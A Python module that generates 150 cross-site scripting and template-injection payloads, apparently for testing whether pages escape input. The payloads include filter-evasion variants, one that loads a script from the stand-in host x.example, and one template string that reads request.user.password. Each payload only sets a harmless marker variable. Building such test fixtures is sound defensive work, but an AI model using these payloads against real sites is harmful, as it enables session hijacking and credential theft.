"""A hundred and fifty texts that run where a page forgets to escape: each would set `window.__x`."""

from itertools import cycle, islice, product

MARK = "__x"
_DO = f"window.{MARK}=1"

# Where the text may stand: between elements, in an attribute, in a script, a style, a comment, a text area.
_BEFORE = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "`>", "]]>")
_ELEMENTS = (
    f"<script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<marquee onstart={_DO}>",
    f'<iframe srcdoc="<script>parent.{_DO[7:]}</script>">',
)
_OTHERS = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f'<a href="javascript:{_DO}">open</a>',
    f'<form action="javascript:{_DO}"><button autofocus>go</button></form>',
    f'<object data="javascript:{_DO}">',
    f'<embed src="javascript:{_DO}">',
    f'<base href="javascript:{_DO}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_DO}">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f'" autofocus onfocus={_DO} x="',
    f"' autofocus onfocus={_DO} x='",
    f'" style="animation-name:x" onanimationstart={_DO} x="',
    "{{constructor.constructor('" + _DO + "')()}}",
    "${" + _DO + "}",
    "{% load i18n %}{{ request.user.password }}",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<SCRIPT SRC=//x.example/{MARK}.js></SCRIPT>",
    f"<img src=`x` onerror={_DO}>",
    f"<img/src=x/onerror={_DO}>",
    f"<svg/onload={_DO}//",
    f"<x onclick={_DO} id=go tabindex=0 autofocus onfocus={_DO}>",
    f"<!--<img src='--><img src=x onerror={_DO}>'>",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<style>@import 'javascript:{_DO}';</style>",
)

PAYLOADS: tuple[str, ...] = tuple(
    islice((*_OTHERS, *(before + element for element, before in product(_ELEMENTS, _BEFORE))), 150)
)


def chunks(length: int) -> list[str]:
    """All payloads in texts of at most so many characters, a payload a line."""
    found, now = [], ""
    for payload in PAYLOADS:
        if now and len(now) + 1 + len(payload) > length:
            found.append(now)
            now = ""
        now = f"{now}\n{payload}" if now else payload
    return [*found, now]


def in_turn(count: int) -> list[str]:
    """So many payloads, one after another and again from the beginning."""
    return list(islice(cycle(PAYLOADS), count))
